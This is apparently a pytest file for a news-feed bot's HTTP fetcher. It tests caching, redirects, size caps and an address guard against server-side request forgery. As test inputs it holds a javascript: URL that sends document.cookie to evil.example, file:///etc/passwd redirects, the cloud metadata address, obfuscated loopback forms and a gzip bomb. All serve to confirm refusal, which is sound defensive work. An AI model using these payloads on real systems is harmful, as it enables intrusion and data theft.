"""The fetcher against a real loopback server, and the address policy as a table."""

from __future__ import annotations

import asyncio
import gzip
import time
import zlib
from collections.abc import AsyncIterator
from ipaddress import ip_address

import pytest

from bot.config import FetchSettings
from bot.feeds import netguard
from bot.feeds.connections import GuardedBackend
from bot.feeds.failure import FetchError, FetchErrorKind, human_size, parse_retry_after
from bot.feeds.fetch import Fetcher, check_url
from tests.fakes import feedgen
from tests.fakes.feed_server import FeedServer
from tests.virtual_time import eventually

FEED = feedgen.rss("Loopback", [feedgen.Item(guid="1", title="one", link="https://e.com/1")])
CAP = 64 * 1024


def _settings(**overrides: object) -> FetchSettings:
    values: dict[str, object] = {
        "timeout_seconds": 5,
        "max_feed_bytes": CAP,
        "allow_private_networks": True,
        "user_agent": "newsrelay-test/1",
    }
    values.update(overrides)
    return FetchSettings.model_validate(values)


@pytest.fixture
async def fetcher() -> AsyncIterator[Fetcher]:
    """A fetcher that may reach loopback, with a 64 KB cap."""
    client = Fetcher(_settings())
    yield client
    await client.aclose()


async def _error(fetcher: Fetcher, url: str) -> FetchError:
    with pytest.raises(FetchError) as caught:
        await fetcher.fetch(url)
    return caught.value


async def test_fetch_returns_body_and_validators(feed_server: FeedServer, fetcher: Fetcher) -> None:
    """A plain 200 gives the body, the validators, the content type and our User-Agent."""
    feed_server.put("/feed.xml", FEED)
    result = await fetcher.fetch(feed_server.url("/feed.xml"))
    assert (result.status, result.body, result.not_modified) == (200, FEED, False)
    assert str(result.etag).startswith('"')
    assert str(result.last_modified).endswith("GMT")
    assert result.content_type == "application/rss+xml"
    assert result.url == feed_server.url("/feed.xml")
    sent = feed_server.requests[-1].headers
    assert sent["User-Agent"] == "newsrelay-test/1"
    assert "gzip" in sent["Accept-Encoding"]
    assert sent["Host"] == f"127.0.0.1:{feed_server.port}"


async def test_conditional_refetch_gets_304(feed_server: FeedServer, fetcher: Fetcher) -> None:
    """Sending back the ETag and Last-Modified yields a 304 with an empty body."""
    feed_server.put("/feed.xml", FEED)
    first = await fetcher.fetch(feed_server.url("/feed.xml"))
    again = await fetcher.fetch(
        feed_server.url("/feed.xml"), etag=first.etag, last_modified=first.last_modified
    )
    assert (again.not_modified, again.body) == (True, b"")
    assert (again.etag, again.last_modified) == (first.etag, first.last_modified)
    assert feed_server.requests[-1].headers["If-None-Match"] == first.etag
    assert feed_server.requests[-1].headers["If-Modified-Since"] == first.last_modified
    assert feed_server.count("/feed.xml", status=304) == 1


async def test_changed_document_is_fetched_despite_validators(
    feed_server: FeedServer, fetcher: Fetcher
) -> None:
    """A new document under the same path has a new ETag, so the refetch returns it."""
    feed_server.put("/feed.xml", FEED)
    first = await fetcher.fetch(feed_server.url("/feed.xml"))
    grown = feedgen.rss("Loopback", [feedgen.Item(guid="2", title="two"), feedgen.Item(guid="1")])
    feed_server.put("/feed.xml", grown)
    again = await fetcher.fetch(feed_server.url("/feed.xml"), etag=first.etag)
    assert (again.status, again.body) == (200, grown)
    assert again.etag != first.etag


async def test_cookies_are_never_sent_back(feed_server: FeedServer, fetcher: Fetcher) -> None:
    """A cookie set by one feed is not stored, so it cannot reach another site on the same IP."""
    feed_server.status("/sets-cookie", 200, {"Set-Cookie": "session=s3cret; Path=/"}, FEED)
    feed_server.put("/other.xml", FEED)
    await fetcher.fetch(feed_server.url("/sets-cookie"))
    await fetcher.fetch(feed_server.url("/other.xml"))
    await fetcher.fetch(feed_server.url("/sets-cookie"))
    assert [r.headers.get("Cookie") for r in feed_server.requests] == [None, None, None]


async def test_gzip_body_is_decoded(feed_server: FeedServer, fetcher: Fetcher) -> None:
    """A gzip-encoded answer comes back as the original bytes."""
    feed_server.put_gzip("/z.xml", FEED)
    assert (await fetcher.fetch(feed_server.url("/z.xml"))).body == FEED


@pytest.mark.parametrize("wbits", [zlib.MAX_WBITS, -zlib.MAX_WBITS], ids=["zlib", "raw"])
async def test_deflate_body_is_decoded(
    feed_server: FeedServer, fetcher: Fetcher, wbits: int
) -> None:
    """Content-Encoding deflate works both zlib-wrapped (the standard) and raw (common)."""
    packer = zlib.compressobj(wbits=wbits)
    feed_server.put_encoded("/d.xml", packer.compress(FEED) + packer.flush(), "deflate")
    assert (await fetcher.fetch(feed_server.url("/d.xml"))).body == FEED


async def test_five_redirects_are_followed(feed_server: FeedServer, fetcher: Fetcher) -> None:
    """A chain of five redirects (absolute and relative) ends at the document."""
    feed_server.put("/final.xml", FEED)
    for hop in range(5):
        target = "/final.xml" if hop == 4 else feed_server.url(f"/r{hop + 1}")
        feed_server.redirect(f"/r{hop}", target, status=(301, 302, 303, 307, 308)[hop])
    result = await fetcher.fetch(feed_server.url("/r0"))
    assert (result.body, result.url) == (FEED, feed_server.url("/final.xml"))


async def test_sixth_redirect_fails(feed_server: FeedServer, fetcher: Fetcher) -> None:
    """Six redirects in a row are one too many, and the sixth target is never requested."""
    feed_server.put("/final.xml", FEED)
    for hop in range(6):
        feed_server.redirect(f"/r{hop}", "/final.xml" if hop == 5 else f"/r{hop + 1}")
    error = await _error(fetcher, feed_server.url("/r0"))
    assert error.kind is FetchErrorKind.TOO_MANY_REDIRECTS
    assert feed_server.count("/final.xml") == 0


async def test_redirect_to_other_scheme_is_refused(
    feed_server: FeedServer, fetcher: Fetcher
) -> None:
    """A redirect to file: is checked like a first URL and refused."""
    feed_server.redirect("/r", "file:///etc/passwd")
    error = await _error(fetcher, feed_server.url("/r"))
    assert error.kind is FetchErrorKind.BAD_SCHEME


async def test_declared_length_over_cap_fails_early(
    feed_server: FeedServer, fetcher: Fetcher
) -> None:
    """A 1 GB Content-Length is refused from the headers, long before the body arrives."""
    feed_server.huge("/huge", 1024**3)
    started = time.monotonic()
    error = await _error(fetcher, feed_server.url("/huge"))
    assert error.kind is FetchErrorKind.TOO_BIG
    assert str(error) == "feed is larger than 64 KB"
    assert time.monotonic() - started < 2


async def test_streamed_body_over_cap_is_cut(feed_server: FeedServer, fetcher: Fetcher) -> None:
    """Without Content-Length, counting stops the 1 GB stream at the cap."""
    feed_server.huge("/huge", 1024**3, declare_length=False)
    error = await _error(fetcher, feed_server.url("/huge"))
    assert error.kind is FetchErrorKind.TOO_BIG


async def test_body_exactly_at_cap_is_accepted(feed_server: FeedServer, fetcher: Fetcher) -> None:
    """The cap is inclusive: CAP bytes pass, one more would not."""
    feed_server.huge("/exact", CAP, declare_length=False)
    assert len((await fetcher.fetch(feed_server.url("/exact"))).body) == CAP


async def test_gzip_bomb_is_cut_on_decoded_size(feed_server: FeedServer, fetcher: Fetcher) -> None:
    """20 MB of zeros gzip to about 20 KB, under the cap on the wire but not once decoded."""
    bomb = gzip.compress(bytes(20 * 1024 * 1024), compresslevel=9)
    assert len(bomb) < CAP
    feed_server.put_encoded("/bomb.xml", bomb, "gzip")
    error = await _error(fetcher, feed_server.url("/bomb.xml"))
    assert error.kind is FetchErrorKind.TOO_BIG


async def test_slow_drip_ends_at_the_deadline(feed_server: FeedServer) -> None:
    """A server that never stops dripping bytes is cut off by the overall deadline."""
    feed_server.slow("/drip", interval=0.02)
    client = Fetcher(_settings(timeout_seconds=0.5))
    try:
        started = time.monotonic()
        error = await _error(client, feed_server.url("/drip"))
        elapsed = time.monotonic() - started
    finally:
        await client.aclose()
    assert error.kind is FetchErrorKind.TIMEOUT
    assert str(error) == "timed out after 0.5 s"
    assert 0.4 < elapsed < 1.5


async def test_deadline_covers_the_wait_for_a_fetch_slot(feed_server: FeedServer) -> None:
    """A fetch queued behind a busy slot still ends at its own deadline, not the other's."""
    feed_server.slow("/drip", interval=0.02)
    client = Fetcher(_settings(timeout_seconds=1, concurrency=1))
    try:
        holder = asyncio.create_task(_error(client, feed_server.url("/drip")))
        # Until the first fetch holds the only slot.
        await eventually(lambda: feed_server.count("/drip") > 0, what="the first fetch")
        started = time.monotonic()
        error = await _error(client, feed_server.url("/drip"))
        elapsed = time.monotonic() - started
        await holder
    finally:
        await client.aclose()
    assert error.kind is FetchErrorKind.TIMEOUT
    assert elapsed < 1.5


@pytest.mark.parametrize(
    ("code", "message"),
    [(404, "HTTP 404 Not Found"), (500, "HTTP 500 Internal Server Error"), (410, "HTTP 410 Gone")],
)
async def test_error_statuses_are_classified(
    feed_server: FeedServer, fetcher: Fetcher, code: int, message: str
) -> None:
    """Non-2xx answers become HTTP_STATUS with the code and a standard phrase."""
    feed_server.status("/bad", code, body=b"<html>oops</html>")
    error = await _error(fetcher, feed_server.url("/bad"))
    assert (error.kind, error.status, str(error), error.retry_after) == (
        FetchErrorKind.HTTP_STATUS,
        code,
        message,
        None,
    )


async def test_unknown_path_is_404(feed_server: FeedServer, fetcher: Fetcher) -> None:
    """A path nobody put is a 404 from the fake, classified as such."""
    error = await _error(fetcher, feed_server.url("/nothing"))
    assert error.status == 404


async def test_429_carries_retry_after(feed_server: FeedServer, fetcher: Fetcher) -> None:
    """Too Many Requests passes the server's Retry-After on to the scheduler."""
    feed_server.status("/busy", 429, {"Retry-After": "120"})
    error = await _error(fetcher, feed_server.url("/busy"))
    assert (error.status, error.retry_after) == (429, 120.0)


def test_retry_after_accepts_http_dates() -> None:
    """An HTTP-date Retry-After becomes seconds from now; junk becomes None."""
    assert parse_retry_after("Thu, 01 Jan 1970 00:01:40 GMT", now=40.0) == 60.0
    assert parse_retry_after("Thu, 01 Jan 1970 00:01:40 GMT", now=400.0) == 0.0
    assert parse_retry_after("soon") is None
    assert parse_retry_after(None) is None


@pytest.mark.parametrize(
    ("url", "kind"),
    [
        ("file:///etc/passwd", FetchErrorKind.BAD_SCHEME),
        ("ftp://example.com/feed", FetchErrorKind.BAD_SCHEME),
        ("javascript:alert(1)", FetchErrorKind.BAD_SCHEME),
        ("gopher://example.com/", FetchErrorKind.BAD_SCHEME),
        ("data:text/xml,<rss/>", FetchErrorKind.BAD_SCHEME),
        ("example.com/feed", FetchErrorKind.INVALID_URL),
        ("", FetchErrorKind.INVALID_URL),
        ("http://", FetchErrorKind.INVALID_URL),
        ("http://[zz]/", FetchErrorKind.INVALID_URL),
        ("http://exa mple.com/\n", FetchErrorKind.INVALID_URL),
    ],
)
def test_bad_urls_are_refused_before_any_io(url: str, kind: FetchErrorKind) -> None:
    """Only well-formed http and https URLs get past the first check."""
    with pytest.raises(FetchError) as caught:
        check_url(url)
    assert caught.value.kind is kind


def test_error_message_names_scheme_not_payload() -> None:
    """The refusal shows the scheme but not the rest of a hostile URL."""
    with pytest.raises(FetchError) as caught:
        check_url("javascript:fetch('https://evil.example/?c='+document.cookie)")
    assert str(caught.value) == "only http:// and https:// feeds are supported, not javascript:"


def test_human_size() -> None:
    """The cap reads as a person would write it."""
    assert [human_size(n) for n in (10 * 1024 * 1024, 1536 * 1024, 65536, 1000)] == [
        "10 MB",
        "1.5 MB",
        "64 KB",
        "1000 B",
    ]


@pytest.mark.parametrize(
    ("address", "reason"),
    [
        ("127.0.0.1", "a loopback address"),
        ("127.255.0.9", "a loopback address"),
        ("10.0.0.5", "a private address"),
        ("172.16.0.1", "a private address"),
        ("172.31.255.255", "a private address"),
        ("192.168.1.1", "a private address"),
        ("169.254.169.254", "a link-local address"),
        ("100.64.0.1", "a shared (CGNAT) address"),
        ("100.127.255.254", "a shared (CGNAT) address"),
        ("0.0.0.0", "an unspecified address"),
        ("224.0.0.1", "a multicast address"),
        ("239.255.255.250", "a multicast address"),
        ("240.0.0.1", "a reserved address"),
        ("255.255.255.255", "the broadcast address"),
        ("192.0.2.1", "a documentation address"),
        ("198.18.0.1", "a benchmarking address"),
        ("::1", "a loopback address"),
        ("::", "an unspecified address"),
        ("fc00::1", "a private (ULA) address"),
        ("fd12:3456::1", "a private (ULA) address"),
        ("fe80::1", "a link-local address"),
        ("ff02::1", "a multicast address"),
        ("2001:db8::1", "a documentation address"),
        ("::ffff:127.0.0.1", "a loopback address embedded in IPv6"),
        ("::ffff:169.254.169.254", "a link-local address embedded in IPv6"),
        ("::ffff:10.1.2.3", "a private address embedded in IPv6"),
        ("2002:7f00:1::", "a loopback address embedded in IPv6"),
        ("2002:a00:5::1", "a private address embedded in IPv6"),
        ("64:ff9b::a9fe:a9fe", "a link-local address embedded in IPv6"),
        ("64:ff9b::c0a8:101", "a private address embedded in IPv6"),
        ("::127.0.0.1", "a loopback address embedded in IPv6"),
        ("64:ff9b:1::1", "a private NAT64 address"),
    ],
)
def test_refused_addresses(address: str, reason: str) -> None:
    """Every non-public range is refused, with a reason a user can read."""
    assert netguard.refusal_reason(ip_address(address)) == reason


@pytest.mark.parametrize(
    "address",
    ["93.184.216.34", "8.8.8.8", "172.32.0.1", "100.128.0.1", "2606:4700::1111", "::ffff:8.8.8.8"],
)
def test_public_addresses_pass(address: str) -> None:
    """Globally routable addresses, including ones just outside the private ranges, pass."""
    assert netguard.refusal_reason(ip_address(address)) is None


@pytest.mark.parametrize(
    ("host", "address"),
    [
        ("2130706433", "127.0.0.1"),
        ("0x7f.1", "127.0.0.1"),
        ("0x7f000001", "127.0.0.1"),
        ("0177.0.0.1", "127.0.0.1"),
        ("127.1", "127.0.0.1"),
        ("10.1", "10.0.0.1"),
        ("192.168.257", "192.168.1.1"),
        ("169.254.169.254.", "169.254.169.254"),
        ("[::ffff:127.0.0.1]", "::ffff:127.0.0.1"),
        ("::1", "::1"),
        ("1.2.3.4", "1.2.3.4"),
    ],
)
def test_ip_literals_in_odd_forms_are_read(host: str, address: str) -> None:
    """Decimal, hex, octal and short IPv4 forms denote the address a browser would reach."""
    assert netguard.parse_ip_literal(host) == ip_address(address)


@pytest.mark.parametrize("host", ["example.com", "1.2.3.4.5", "256.1.1.1", "1e3", "09.1", "a.1"])
def test_host_names_are_not_literals(host: str) -> None:
    """Names and invalid numbers are left to DNS rather than read as addresses."""
    assert netguard.parse_ip_literal(host) is None


async def test_per_hop_check_refuses_private_resolution() -> None:
    """The per-hop check refuses a name that resolves to loopback, and numeric literals."""
    for host in ("localhost", "127.0.0.1", "2130706433", "0x7f.1"):
        with pytest.raises(netguard.RefusedAddressError):
            await netguard.vetted_addresses(host, 80, policy=netguard.AddressPolicy())
    allowed = netguard.AddressPolicy(allow_private=True)
    assert await netguard.vetted_addresses("0x7f.1", 80, policy=allowed) == [
        ip_address("127.0.0.1")
    ]


def test_refusal_message_shapes() -> None:
    """The message says which name led where, and a literal is named once."""
    named = netguard.RefusedAddressError(
        "feed.example", ip_address("10.0.0.5"), "a private address"
    )
    literal = netguard.RefusedAddressError("10.0.0.5", ip_address("10.0.0.5"), "a private address")
    assert str(named) == "refused: feed.example resolves to a private address (10.0.0.5)"
    assert str(literal) == "refused: 10.0.0.5 is a private address"


@pytest.mark.parametrize(
    "form",
    [
        "http://127.0.0.1:{port}/feed.xml",
        "http://2130706433:{port}/feed.xml",
        "http://0x7f.1:{port}/feed.xml",
        "http://[::ffff:127.0.0.1]:{port}/feed.xml",
        "http://localhost:{port}/feed.xml",
    ],
)
async def test_guarded_fetch_refuses_loopback(feed_server: FeedServer, form: str) -> None:
    """With private networks refused, a live loopback server is never even contacted."""
    feed_server.put("/feed.xml", FEED)
    client = Fetcher(_settings(allow_private_networks=False))
    try:
        error = await _error(client, form.format(port=feed_server.port))
    finally:
        await client.aclose()
    assert error.kind is FetchErrorKind.REFUSED_ADDRESS
    assert str(error).startswith("refused: ")
    assert feed_server.count("/feed.xml") == 0


async def test_redirect_target_gets_its_own_resolution(feed_server: FeedServer) -> None:
    """Each hop is vetted on its own: a numeric loopback form in Location is read and pinned.

    With the guard on, loopback cannot be served as an allowed first hop, so the
    refusal side of the per-hop check is covered by the vetted_addresses tests.
    """
    feed_server.put("/feed.xml", FEED)
    feed_server.redirect("/r", f"http://0x7f.1:{feed_server.port}/feed.xml")
    client = Fetcher(_settings())
    try:
        result = await client.fetch(feed_server.url("/r"))
    finally:
        await client.aclose()
    assert result.body == FEED
    assert result.url == f"http://0x7f.1:{feed_server.port}/feed.xml"
    assert feed_server.requests[-1].headers["Host"] == f"0x7f.1:{feed_server.port}"


async def test_connection_refused_is_a_network_error(fetcher: Fetcher) -> None:
    """A closed port gives a CONNECT error whose message names only the host."""
    server = FeedServer()
    await server.start()
    url = server.url("/secret-token-path?key=hunter2")
    await server.stop()
    error = await _error(fetcher, url)
    assert error.kind is FetchErrorKind.CONNECT
    assert str(error) == "cannot connect to 127.0.0.1"


async def test_connections_are_kept_alive_per_host_name(feed_server: FeedServer) -> None:
    """Checks of one host reuse one connection; another name for the same address gets its
    own (a TLS connection is verified for one name and must never carry another's request)."""
    feed_server.put("/a.xml", FEED)
    feed_server.put("/b.xml", FEED)
    client = Fetcher(_settings())
    try:
        for path in ("/a.xml", "/b.xml", "/a.xml"):
            await client.fetch(feed_server.url(path))
        await client.fetch(f"http://localhost:{feed_server.port}/a.xml")
    finally:
        await client.aclose()
    peers = [request.peer for request in feed_server.requests]
    assert peers[0] == peers[1] == peers[2]
    assert peers[3] != peers[0]


async def test_a_304_and_a_redirect_leave_the_connection_reusable(
    feed_server: FeedServer, fetcher: Fetcher
) -> None:
    """Bodies of 304 and redirect answers are read, so the connection goes back to the pool."""
    feed_server.put("/feed.xml", FEED)
    feed_server.redirect("/moved", "/feed.xml", status=301)
    first = await fetcher.fetch(feed_server.url("/feed.xml"))
    await fetcher.fetch(feed_server.url("/feed.xml"), etag=first.etag)
    moved = await fetcher.fetch(feed_server.url("/moved"))
    assert moved.moved_to == feed_server.url("/feed.xml")
    assert len({request.peer for request in feed_server.requests}) == 1


async def test_only_leading_permanent_redirects_move_a_feed(
    feed_server: FeedServer, fetcher: Fetcher
) -> None:
    """301/308 from the start name the new home; a temporary hop after them ends the move."""
    feed_server.put("/home.xml", FEED)
    feed_server.redirect("/p1", "/p2", status=308)
    feed_server.redirect("/p2", "/home.xml", status=301)
    feed_server.redirect("/t1", "/p2", status=302)
    feed_server.redirect("/m1", "/t2", status=301)
    feed_server.redirect("/t2", "/home.xml", status=307)
    assert (await fetcher.fetch(feed_server.url("/p1"))).moved_to == feed_server.url("/home.xml")
    assert (await fetcher.fetch(feed_server.url("/t1"))).moved_to is None
    assert (await fetcher.fetch(feed_server.url("/m1"))).moved_to == feed_server.url("/t2")
    assert (await fetcher.fetch(feed_server.url("/home.xml"))).moved_to is None


class _Peer:
    """A network stream as httpcore's backend hands it over, reporting one peer address."""

    def __init__(self, address: str) -> None:
        self.address = address

    def get_extra_info(self, info: str) -> object:
        return (self.address, 443) if info == "server_addr" else None


def test_the_connected_peer_is_checked_again() -> None:
    """Belt and braces: whatever was resolved, a connection that landed on a private
    address is refused (unless private networks are allowed)."""
    guarded = GuardedBackend(netguard.AddressPolicy.from_settings(False, ()))
    with pytest.raises(netguard.RefusedAddressError):
        guarded._check_connected("feeds.example", _Peer("10.1.2.3"))  # type: ignore[arg-type]
    guarded._check_connected("feeds.example", _Peer("93.184.216.34"))  # type: ignore[arg-type]
    allowed = GuardedBackend(netguard.AddressPolicy.from_settings(True, ()))
    allowed._check_connected("x", _Peer("10.1.2.3"))  # type: ignore[arg-type]
    named = GuardedBackend(netguard.AddressPolicy.from_settings(False, ("10.1.0.0/16",)))
    named._check_connected("x", _Peer("10.1.2.3"))  # type: ignore[arg-type]
    with pytest.raises(netguard.RefusedAddressError):
        named._check_connected("x", _Peer("10.9.2.3"))  # type: ignore[arg-type]
